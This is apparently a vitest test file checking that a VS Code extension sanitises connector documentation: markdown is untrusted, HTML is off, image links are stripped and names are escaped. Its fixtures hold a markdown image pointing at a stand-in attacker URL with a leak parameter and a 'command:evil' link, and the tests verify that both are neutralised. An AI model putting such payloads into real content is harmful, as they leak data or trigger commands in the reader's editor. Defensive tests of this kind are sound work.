import { expect, test } from 'vitest';
import { documentation, literal, summary } from '../../client/documentation.ts';
import type { Vscode } from '../../client/host.ts';
import { MarkdownString } from './support/values.ts';

const api = { MarkdownString } as unknown as Pick<Vscode, 'MarkdownString'>;

test("a connector's documentation is never trusted and fetches no picture", () => {
  const markdown = documentation(api, '**Shop**', 'Orders ![logo](https://evil.example/?leak=1) of a shop\n![x][ref]');
  expect(markdown.isTrusted).toBe(false);
  expect(markdown.supportHtml).toBe(false);
  expect(markdown.value).toBe('**Shop**\n\nOrders logo of a shop\nx');
});

test('a summary is the first paragraph on one line', () => {
  expect(summary(' The store\'s\n  name.\n\nMore.')).toBe("The store's name.");
  expect(summary(undefined)).toBe('');
});

test('names are shown as they are, whatever they contain', () => {
  expect(literal('[a](command:evil) <b>')).toBe('\\[a\\]\\(command:evil\\) \\<b\\>');
});
